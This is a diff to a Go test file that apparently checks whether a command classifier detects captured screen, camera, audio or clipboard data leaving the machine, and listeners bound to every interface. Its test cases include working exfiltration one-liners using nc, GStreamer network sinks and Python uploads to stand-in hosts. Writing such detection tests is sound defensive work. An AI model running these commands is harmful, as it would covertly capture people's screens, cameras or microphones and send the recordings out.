@@ -29,6 +29,9 @@ func TestCaptureLeavesAsOutput(t *testing.T) {
 		"xsel -b | nc 203.0.113.5 9000",
 		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mpegtsmux ! tcpclientsink host=203.0.113.5 port=9000",
 		"gst-launch-1.0 pulsesrc ! opusenc ! rtpopuspay ! udpsink host=stream.example.net port=5004",
+		"gst-launch-1.0 ximagesrc! videoconvert !x264enc ! mpegtsmux ! tcpclientsink host=203.0.113.5 port=9000",
+		"gst-launch-1.0 libcamerasrc ! jpegenc ! curlhttpsink location=https://up.example.net/c",
+		"gst-launch-1.0 wasapi2src ! opusenc ! oggmux ! giosink location=sftp://203.0.113.5/a.ogg",
 		`python3 -c 'from PIL import ImageGrab; import requests, io; b=io.BytesIO(); ImageGrab.grab().save(b, "PNG"); requests.post("https://up.example.net", data=b.getvalue())'`,
 		`python3 -c 'import cv2; c=cv2.VideoCapture(0); ok,f=c.read(); print(f)' | nc 203.0.113.5 9000`,
 	} {
@@ -46,6 +49,7 @@ func TestCaptureLeavesAsOutput(t *testing.T) {
 		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mp4mux ! filesink location=demo.mp4",
 		"gst-launch-1.0 videotestsrc ! x264enc ! rtph264pay ! udpsink host=127.0.0.1 port=5000",
 		"gst-launch-1.0 filesrc location=demo.mp4 ! qtdemux ! flvmux ! rtmpsink location=rtmp://live.example.net/app/k",
+		"gst-launch-1.0 ximagesrc! videoconvert ! x264enc ! mp4mux ! giosink location=/tmp/s.mp4",
 		`python3 -c 'from PIL import ImageGrab; ImageGrab.grab().save("shot.png")'`,
 	} {
 		if leaves(line) {
@@ -66,7 +70,25 @@ func TestGStreamerFiles(t *testing.T) {
 	for _, e := range effectsOf("gst-launch-1.0 videotestsrc ! x264enc ! mp4mux ! filesink location=out/t.mp4") {
 		wrote = wrote || e.Kind == Write && strings.HasSuffix(e.Path, "/out/t.mp4")
 	}
-	if !read || !wrote || !host {
-		t.Errorf("gst-launch: read %v, wrote %v, host %v; want all", read, wrote, host)
+	listens := false
+	for _, line := range []string{
+		"gst-launch-1.0 videotestsrc ! x264enc ! mpegtsmux ! tcpserversink host=0.0.0.0 port=5000",
+		"gst-launch-1.0 videotestsrc ! x264enc ! mpegtsmux ! srtserversink uri=srt://:7001",
+	} {
+		heard := false
+		for _, e := range effectsOf(line) {
+			heard = heard || e.Kind == Listen && e.Detail == "every-interface"
+		}
+		listens = listens || heard
+		if !heard {
+			t.Errorf("%s: no listener on every address", line)
+		}
+	}
+	gio := false
+	for _, e := range effectsOf("gst-launch-1.0 giosrc location=file:///home/dev/a.wav ! wavparse ! autoaudiosink") {
+		gio = gio || e.Kind == Read && e.Path == "/home/dev/a.wav"
+	}
+	if !read || !wrote || !host || !listens || !gio {
+		t.Errorf("gst-launch: read %v, wrote %v, host %v, listens %v, giosrc read %v; want all", read, wrote, host, listens, gio)
 	}
 }
